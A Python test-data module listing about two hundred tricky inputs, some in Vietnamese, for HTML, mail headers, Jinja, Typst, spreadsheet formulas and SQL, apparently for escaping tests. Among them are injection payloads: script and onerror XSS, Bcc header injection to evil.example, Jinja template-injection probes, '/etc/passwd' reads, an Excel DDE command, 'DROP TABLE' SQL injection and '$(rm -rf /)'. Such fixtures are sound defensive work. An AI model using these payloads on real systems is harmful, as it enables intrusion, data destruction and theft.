"""Two hundred things that people (or worse) may type, for HTML, mail headers, Jinja, Typst, Word, Excel and SQL."""

from __future__ import annotations

HTML = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<b>đậm</b>", "</td></tr></table><h1>x</h1>", "<!-- -->",
    "<style>body{display:none}</style>", "<a href='javascript:alert(1)'>bấm</a>", "&lt;b&gt;", "&amp;amp;", "&#60;i&#62;",
    "<iframe src=//x.example></iframe>", "<svg onload=alert(1)>", "<![CDATA[x]]>", "<?xml version='1.0'?>", "<base href=//x>",
    "<meta http-equiv=refresh content=0>", "<form action=//x><input></form>", "\"><script>x</script>", "' onmouseover='x",
    "<w:p/>", "</w:t></w:r>", "<w:br/>", "<o:OLEObject/>", "&nbsp;", "&unknown;", "<div style='background:url(//x)'>",
    "<link rel=stylesheet href=//x.example/a.css>", "<video><source onerror=x></video>", "<math><mi>x</mi></math>", "<>",
]  # fmt: skip
HEADERS = [
    "Tổ 1\r\nBcc: x@evil.example", "Tổ 1\nSubject: khác", "Tổ 1\rX-Thêm: 1", "Tổ\r\n\r\n<html>", "a\u2028Bcc: x@evil.example",
    "a\u2029To: x@evil.example", "a\x85Cc: x@evil.example", "a\x0bBcc: x", "a\x0cBcc: x", "=?utf-8?q?Bcc:_x?=",
    "\"x\" <x@evil.example>", "x@evil.example, y@evil.example", "Bcc: x@evil.example", "a;b;c", "<x@evil.example>",
    "RCPT TO:<x@evil.example>", ".\r\nMAIL FROM:<x>", "\r\n.\r\n", ".", "..", "--=_toso", "Content-Type: text/html",
]  # fmt: skip
JINJA = [
    "{{ 7*7 }}", "{{ config }}", "{% for x in y %}", "{% include '/etc/passwd' %}", "{# chú thích #}", "{{ ''.__class__.__mro__ }}",
    "{{", "}}", "{%", "%}", "{%p if x %}", "{{p x }}", "{{r x }}", "{%tr for x in y %}", "{_{ x }_}", "{_% x %_}", "{{ self }}",
    "{{ cycler.__init__.__globals__ }}", "{title}", "{value} {missing}", "{0}", "{}", "%s %d", "%(name)s", "${x}", "{{{", "}}}",
    "{% raw %}{{ x }}{% endraw %}", "{{ lipsum }}", "{%- set a = 1 -%}", "{a!r:>10}", "{{ range(10**9) }}",
]  # fmt: skip
TYPST = [
    "#read(\"/etc/passwd\")", "#include \"report.typ\"", "#import \"common.typ\": *", "#let x = 1", "#eval(\"1+1\")", "$x^2$",
    "*đậm*", "_nghiêng_", "= Tiêu đề", "== Mục", "- gạch", "+ số", "/ Từ: nghĩa", "@nhan", "<nhan>", "`mã`", "```rust x```",
    "#sys.inputs", "#panic()", "\\", "\\u{1F600}", "// chú thích", "/* chú thích */", "#image(\"x.png\")", "#link(\"http://x\")[x]",
    "~", "--", "---", "...", "#pagebreak()", "#[", "]", "#{", "#set page(width: 1cm)", "\"ngoặc\"", "'đơn'", "https://x.example/a",
    "#plugin(\"x.wasm\")", "1. một", "#context here()", "#counter(page).update(9)", "\\(x\\)",
]  # fmt: skip
FORMULAS = [
    "=1+1", "=HYPERLINK(\"http://x\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "=IMPORTXML(\"http://x\")",
    "=WEBSERVICE(\"http://x\")", "\t=1+1", "=DDE(\"x\")", "{=1+1}", "=A1", "'=1+1", "http://x.example", "mailto:x@evil.example",
    "internal:Sheet1!A1", "external:c:\\x.xlsx", "0912345678", "1e5", "TRUE", "#REF!", "#N/A", "=1/0", "+84 912 345 678", "1/2", "1-2",
]  # fmt: skip
OTHER = [
    "'; DROP TABLE deliveries; --", "\" OR 1=1", "../../etc/passwd", "/etc/passwd", "C:\\Windows\\x", "~/.ssh/id_rsa", "$(rm -rf /)",
    "`id`", "| cat /etc/passwd", "\x00rỗng", "\x1b[31mđỏ", "\x07chuông", "\u202eđảo", "\u200bẩn", "\ufeffdấu", "\ufffe", "\ud800",
    "a" * 300, "Nguyễn " * 20, "hoà bình", "thủy", "Ðà Nẵng", "Đà Nẵng", "ĐƯỜNG", "ﬁ ﬂ", "½ ²", "“ngoặc kép”", "‘đơn’", "a–b—c", "§1",
    "Số: 12/BC-VHXH", "./.", "I. PHẦN", "null", "None", "NaN", "undefined", "true", "0", "-0", "1.234,5", "100%", "50 %", "\\n", "\\0",
    "a\tb", "  hai  khoảng  ", "một\ndòng", "x" + "̣" * 3, "ế", "Ộ", "nâng cao\xa0", "\xad", "C&C", "A & B", "AT&T;",
]  # fmt: skip
ALL = [*HTML, *HEADERS, *JINJA, *TYPST, *FORMULAS, *OTHER]
